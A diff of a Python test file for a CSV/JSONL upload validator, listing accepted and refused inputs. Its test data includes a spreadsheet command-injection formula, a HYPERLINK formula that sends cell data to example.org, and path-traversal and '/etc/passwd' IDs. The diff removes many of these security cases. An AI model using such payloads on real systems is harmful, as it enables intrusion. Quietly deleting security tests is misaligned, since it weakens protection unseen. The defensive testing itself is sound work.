@@ -16,15 +16,10 @@ HEADER = "image,hypothesis\n"
 HUGE = "x" * 10_000_000
 FORMULAS = {
     "formula": "=1+1",
-    "formula-that-starts-a-program": "=cmd|' /C calc'!A0",
-    "formula-that-opens-a-link": '=HYPERLINK("http://example.org?"&A1,"click")',
-    "formula-with-plus": "+1+1",
     "formula-with-minus": "-1+1",
     "formula-with-at": "@SUM(A1:A9)",
     "formula-in-full-width": "\uff1d1+1",
     "formula-behind-an-apostrophe": "'=1+1",
-    "formula-in-quotes": '"=1+1"',
-    "formula-with-a-comma-and-quotes": '=A1,"b"',
 }
 
 
@@ -95,7 +90,6 @@ def downloaded(folder, text):
 AB = [["a", "A café."], ["b", "B."]]
 TEXT = HEADER + "a,A café.\nb,B.\n"
 ACCEPTED = {
-    "utf-8": TEXT.encode(),
     "utf-8-with-a-mark": TEXT.encode("utf-8-sig"),
     "utf-16-little-endian": b"\xff\xfe" + TEXT.encode("utf-16-le"),
     "utf-16-big-endian": b"\xfe\xff" + TEXT.encode("utf-16-be"),
@@ -103,14 +97,10 @@ ACCEPTED = {
     "windows-line-ends": TEXT.replace("\n", "\r\n"),
     "old-mac-line-ends": TEXT.replace("\n", "\r"),
     "semicolons": TEXT.replace(",", ";"),
-    "tabs": TEXT.replace(",", "\t"),
-    "no-line-end-at-the-end": TEXT.rstrip("\n"),
     "blank-lines-between": TEXT.replace("\n", "\n\n"),
     "line-that-names-the-separator": "sep=;\n" + TEXT.replace(",", ";"),
     "cells-without-content-at-the-end": TEXT.replace("\nb", ",\nb"),
     "blanks-around-cells": "image , hypothesis\n a , A café. \nb,B.\n",
-    "everything-in-quotes": '"image","hypothesis"\n"a","A café."\n"b","B."\n',
-    "unused-columns": "image,x,hypothesis\na,1,A café.\nb,2,B.\n",
 }
 REFUSED = {
     "utf-16-without-a-mark": (TEXT.encode("utf-16-le"), "NUL byte at offset"),
@@ -155,24 +145,15 @@ REFUSED = {
 }
 IDS = {
     "id-above": "../a",
-    "id-through-a-folder": "x/../a",
     "id-by-absolute-path": "/etc/passwd",
     "id-of-a-drive": "C:\\a",
-    "id-of-a-share": "\\\\host\\a",
     "id-that-is-an-address": "file:///etc/passwd",
-    "id-of-the-folder": ".",
-    "id-of-the-folder-above": "..",
-    "id-without-a-name": "",
     "id-with-a-control-character": "a\x1b",
     "id-of-three-hundred-characters": "a" * 300,
 }
 LABELS = {
     "label-of-another-task": ("neutral", "unknown label 'neutral'"),
-    "label-as-a-number": ("2", "unknown label '2'"),
     "label-with-a-cyrillic-letter": ("\u0435ntailment", "unknown label"),
-    "label-with-a-dotted-capital": ("enta\u0130lment", "unknown label"),
-    "label-that-is-missing": ("", "unknown label ''"),
-    "label-that-is-a-formula": ("=entailment", "unknown label"),
     "label-of-a-split": ("entailment,eval", "unknown split 'eval'"),
 }
 GOOD = {"image": "a", "hypothesis": "A café."}
@@ -180,15 +161,11 @@ JSON = {
     "json-broken-line": (lines(GOOD) + "{oops\n", "line 2: Expecting property name"),
     "json-list": (lines(GOOD) + "[1]\n", "line 2: expected an object, got list"),
     "json-keys-that-differ": (lines(GOOD, {"image": "b"}), "line 2: keys"),
-    "json-nothing": (lines(GOOD | {"hypothesis": None}), "line 1: hypothesis is empty"),
     "json-fraction": (lines(GOOD | {"image": 1.5}), "the first: \\['1.5'\\]"),
-    "json-truth": (lines(GOOD | {"image": True}), "the first: \\['true'\\]"),
-    "json-not-a-number": ('{"image": NaN, "hypothesis": "A"}\n', "line 1: 1 images are not in .*'nan'"),
     "json-mapping": (lines(GOOD | {"image": {"a": 1}}), "line 1: 'image' is"),
     "json-key-twice": ('{"image": "a", "image": "b"}\n', "line 1: a key occurs twice"),
     "json-hundred-thousand-deep": ('{"a":' * 100_000 + "\n", "line 1"),
     "json-number-of-five-thousand-digits": (f'{{"image": {"9" * 5000}, "hypothesis": "A"}}\n', "line 1"),
-    "json-escaped-nul": (lines(GOOD | {"hypothesis": "a\0b"}), "control character U[+]0000"),
     "json-half-a-surrogate": (lines(GOOD | {"hypothesis": "a\ud800b"}), "line 1: half a surrogate pair"),
     "json-ten-megabyte-cell": (lines(GOOD | {"hypothesis": HUGE}), "line 1: a field of 10,000,000"),
     "json-one-array-over-many-lines": (json.dumps([GOOD], indent=1), "is one JSON array"),
@@ -216,17 +193,10 @@ CASES = [
     accepted(
         "json-with-a-line-separator", lines(GOOD | {"hypothesis": "A\u2028B"}), [["a", "A\u2028B"]], file="p.jsonl"
     ),
-    accepted("json-key-of-a-prototype", lines(GOOD | {"__proto__": {"x": 1}}), AB[:1], file="p.jsonl"),
-    accepted("json-with-a-mark", ("\ufeff" + lines(GOOD)), AB[:1], file="p.jsonl"),
     Case(
         "two-names-of-one-image",
         partial(rows, content=HEADER + "a,A.\na.png,B.\n"),
         refused=r"'a' and 'a\.png' are the same file",
-    ),
-    Case(
-        "json-id-above",
-        partial(rows, content=lines(GOOD | {"image": "../a"}), file="pairs.jsonl"),
-        refused="not a plain name",
     ),
     Case("table-that-never-ends", fifo, refused=r"pairs\.csv is missing"),
     Case("table-of-half-a-gigabyte", sparse, refused=r"pairs\.csv has 500,000,001 bytes; at most"),
